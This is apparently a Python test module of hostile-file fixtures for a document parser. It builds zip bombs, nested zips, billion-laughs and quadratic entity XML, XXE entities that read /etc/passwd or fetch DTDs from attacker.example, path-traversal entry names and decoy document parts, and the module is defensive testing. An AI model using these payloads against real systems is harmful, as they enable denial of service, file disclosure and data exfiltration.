"""Hostile packages: bombs, deep nests, entities, claims of size, tricks with the parts' names."""

from __future__ import annotations

import struct
import zipfile

from sync.model import ReadState
from tests.hostile import kit
from tests.hostile.kit import ends, said, word, workbook, zipped

READ, LARGE, TORN, OTHER = (
    ReadState.READ, ReadState.TOO_LARGE, ReadState.UNREADABLE, ReadState.UNSUPPORTED,
)  # fmt: skip
LAUGHS = '<!DOCTYPE z [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
)
OUTSIDE = '<!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
AFAR = '<!DOCTYPE z SYSTEM "http://attacker.example/evil.dtd">'
BY_PARAMETER = '<!DOCTYPE z [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
LAST_ROW, LAST_CELL = 1_048_576, "XFD1048576"


@ends("bomb.docx", LARGE, why="times its size")
def one_part_of_zeros() -> bytes:
    return word(said("x"), ("word/media/image1.png", b"\0" * (64 * kit.MIB)))


@ends("lying.docx", TORN, why="damaged")
def a_directory_that_understates() -> bytes:
    """The part unpacks to 64 MiB, the directory says ten bytes."""
    real = 64 * kit.MIB
    data = word(said("x"), ("word/media/image1.png", b"\0" * real))
    at = data.rindex(struct.pack("<L", real))
    return data[:at] + struct.pack("<L", 10) + data[at + 4 :]


@ends("claims.docx", LARGE, why="unpack to more than")
def a_part_that_claims_four_gibibytes() -> bytes:
    data = word(said("x"), ("word/media/image1.png", b"\0" * 1000))
    at = data.rindex(struct.pack("<L", 1000))
    return data[:at] + struct.pack("<L", 0xFFFFFFFE) + data[at + 4 :]


@ends("quoted.zip", LARGE, TORN)
def one_part_listed_ten_thousand_times() -> bytes:
    """As the bombs do that overlap their parts: one piece of data, claimed again and again."""
    data = zipped([("a", b"\0" * kit.MIB)])
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entries = data[start:end] * 10_000
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 10_000, 10_000, len(entries), start, 0)
    return data[:start] + entries + tail


@ends("crowd.zip", LARGE, why="parts")
def twenty_thousand_and_one_parts() -> bytes:
    return zipped(((str(n), b"") for n in range(20_001)), zipfile.ZIP_STORED)


@ends("nest.zip", OTHER, why="inside another one")
def a_zip_within_a_zip_a_hundred_deep() -> bytes:
    data = b"words"
    for _ in range(100):
        data = zipped([("a.zip", data)])
    return data


@ends("small-bombs.zip", LARGE, why="would unpack to more than")
def many_files_each_just_small_enough() -> bytes:
    inner = word(said("x"), ("word/media/image1.png", b"\0" * (15 * kit.MIB)))
    return zipped(((f"{n}.docx", inner) for n in range(9)), zipfile.ZIP_STORED)


@ends("laughs.docx", TORN, why="damaged")
def a_billion_laughs() -> bytes:
    return word(said("&a11;"), dtd=LAUGHS + "]>")


@ends("laughs-16.docx", TORN, why="damaged")
def laughs_in_utf_16() -> bytes:
    text = f"<?xml version='1.0' encoding='UTF-16'?>{LAUGHS}]><z>&a11;</z>"
    return zipped([(kit.TYPES, kit.types()), ("word/document.xml", text.encode("utf-16"))])


@ends("quadratic.docx", TORN, why="damaged")
def one_long_entity_named_often() -> bytes:
    dtd = f'<!DOCTYPE z [<!ENTITY a "{"x" * 100_000}">]>'
    return word(said("&a;" * 10_000), dtd=dtd)


@ends("outside.docx", TORN, why="damaged")
def an_entity_that_is_a_file_of_ours() -> bytes:
    return word(said("&x;"), dtd=OUTSIDE)


@ends("afar.docx", TORN, why="damaged")
def a_document_type_from_afar() -> bytes:
    return word(said("x"), dtd=AFAR)


@ends("parameter.docx", TORN, why="damaged")
def a_parameter_entity_from_afar() -> bytes:
    return word(said("x"), dtd=BY_PARAMETER)


@ends("types.docx", TORN, why="damaged")
def laughs_in_the_content_types() -> bytes:
    document = f"<w:document {kit.WORD}/>".encode()
    return zipped(
        [(kit.TYPES, f"{LAUGHS}]><Types>&a11;</Types>".encode()), ("word/document.xml", document)]
    )


@ends("properties.docx", TORN, why="damaged")
def laughs_in_the_properties() -> bytes:
    return word(said("x"), ("docProps/core.xml", f"{LAUGHS}]><c>&a11;</c>".encode()))


@ends("included.docx", READ)
def an_inclusion_that_nobody_follows() -> bytes:
    space = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    return word(said("x") + f'<xi:include {space} href="file:///etc/passwd" parse="text"/>')


@ends("laughs.xlsx", TORN, why="damaged")
def laughs_in_the_shared_strings() -> bytes:
    strings = f"{LAUGHS}]><sst {kit.SHEET}><si><t>&a11;</t></si></sst>"
    return workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', strings=strings)


@ends("outside.xlsx", TORN, why="damaged")
def a_sheet_that_asks_for_a_file_of_ours() -> bytes:
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
    return workbook(cell, dtd=OUTSIDE)


@ends("laughs.odt", TORN, why="damaged")
def laughs_in_an_open_document() -> bytes:
    mime = b"application/vnd.oasis.opendocument.text"
    content = f"{LAUGHS}]><z>&a11;</z>".encode()
    return zipped([("mimetype", mime), ("content.xml", content)])


@ends("deep.docx", READ)
def elements_a_hundred_thousand_deep() -> bytes:
    return word("<w:a>" * 100_000 + said("x") + "</w:a>" * 100_000)


@ends("controls.docx", READ, TORN)
def content_controls_a_hundred_thousand_deep() -> bytes:
    row = "<w:sdt>" * 100_000 + "</w:sdt>" * 100_000
    return word(f"<w:tbl><w:tr>{row}</w:tr></w:tbl>")


@ends("tables.docx", READ, LARGE)
def tables_a_thousand_deep() -> bytes:
    head, tail = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return word(head * 1_000 + said("x") + tail * 1_000)


@ends("attributes.docx", READ)
def one_element_with_a_hundred_thousand_attributes() -> bytes:
    told = "".join(f' a{n}="1"' for n in range(100_000))
    return word(f"<w:p{told}/>" + said("x"))


@ends("claimed.xlsx", READ)
def a_sheet_that_claims_every_cell_there_can_be() -> bytes:
    cell = '<row r="1"><c r="A1"><v>1</v></c></row>'
    return workbook(cell, dimension=f"A1:{LAST_CELL}")


@ends("corner.xlsx", READ)
def one_cell_in_the_last_corner() -> bytes:
    return workbook(f'<row r="{LAST_ROW}"><c r="{LAST_CELL}"><v>1</v></c></row>')


@ends("beyond.xlsx", LARGE, why="more rows than a sheet can have")
def a_row_beyond_all_sheets() -> bytes:
    return workbook('<row r="999999999999"><c><v>1</v></c></row>')


@ends("wide.xlsx", LARGE)
def many_rows_whose_only_cell_is_the_last() -> bytes:
    rows = (f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 20_001))
    return workbook("".join(rows))


@ends("strings.xlsx", TORN, why="damaged")
def a_shared_string_that_is_not_there() -> bytes:
    return workbook('<row r="1"><c r="A1" t="s"><v>99999999999999999999</v></c></row>')


@ends("torn.xlsx", TORN, why="damaged")
def a_workbook_whose_xml_breaks_off() -> bytes:
    return workbook("", strings=f"<sst {kit.SHEET}><si>")


@ends("climbing.zip", READ)
def names_that_climb_out_of_the_folder() -> bytes:
    names = ["../../../../tmp/climbed.txt", "/etc/climbed.txt", "..\\..\\climbed.txt",
             "C:\\Windows\\climbed.txt", "\\\\server\\share\\climbed.txt"]  # fmt: skip
    return zipped((name, b"words") for name in names)


@ends("odd-names.zip", READ, OTHER)
def names_that_systems_stumble_over() -> bytes:
    names = ["a\0.exe.txt", "report\u202etxt.exe.txt", "trailing .txt", "dot..txt", "CON.txt",
             "LPT1.txt", "a:b.txt", "n" * 4000 + ".txt", "\r\nX-Header: 1.txt", ".txt"]  # fmt: skip
    return zipped((name, b"words") for name in names)


@ends("twice.docx", TORN, why="two parts of one name")
def two_documents_of_one_name() -> bytes:
    """One that says it all and one that says nothing: which is read depends on who reads."""
    harmless = f"<w:document {kit.WORD}><w:body>{said('nothing')}</w:body></w:document>".encode()
    return word(said("943 476 5919"), ("word/document.xml", harmless))


@ends("cased.docx", TORN, why="two parts of one name")
def two_documents_whose_names_differ_in_case() -> bytes:
    harmless = f"<w:document {kit.WORD}><w:body>{said('nothing')}</w:body></w:document>".encode()
    return word(said("x"), ("word/DOCUMENT.xml", harmless))


@ends("decoy.docx", READ)
def a_document_whose_text_is_elsewhere() -> bytes:
    """Word follows the content types to another part than the one that is called the document."""
    real = f"<w:document {kit.WORD}><w:body>{said('943 476 5919')}</w:body></w:document>".encode()
    kinds = kit.types().replace(b"/word/document.xml", b"/word/real.xml")
    decoy = f"<w:document {kit.WORD}><w:body>{said('nothing')}</w:body></w:document>".encode()
    return zipped([(kit.TYPES, kinds), ("word/document.xml", decoy), ("word/real.xml", real)])


FILES = tuple(one for one in dict(globals()).values() if isinstance(one, kit.Hostile))
